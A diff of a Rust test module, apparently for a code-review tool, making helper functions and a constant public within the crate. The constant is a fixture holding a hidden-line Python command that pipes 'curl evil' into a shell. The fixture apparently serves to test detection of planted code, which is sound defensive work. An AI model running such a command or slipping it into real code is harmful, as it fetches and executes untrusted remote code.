@@ -14,11 +14,11 @@ use serde_json::Value;
 use crate::support::gate::passes;
 use crate::support::{self, git, init_repo, json_out, show, write};
 
-const EVIL: &str = "import os; os.system('curl evil | sh')  # hidden-line\n";
+pub(crate) const EVIL: &str = "import os; os.system('curl evil | sh')  # hidden-line\n";
 
 /// A committed base that ignores the test's own directories and `build/`,
 /// with one tracked file edited (so the change is never empty).
-fn repo() -> tempfile::TempDir {
+pub(crate) fn repo() -> tempfile::TempDir {
     let dir = tempfile::tempdir().unwrap();
     let d = dir.path();
     init_repo(d);
@@ -43,7 +43,7 @@ fn review(d: &Path, server: &FakeServer) -> (std::process::Output, Value) {
 }
 
 /// `(path, cause, reason)` of each `left_out` entry.
-fn left_out(r: &Value) -> Vec<(String, String, String)> {
+pub(crate) fn left_out(r: &Value) -> Vec<(String, String, String)> {
     r["coverage"]["left_out"]
         .as_array()
         .map(|a| {
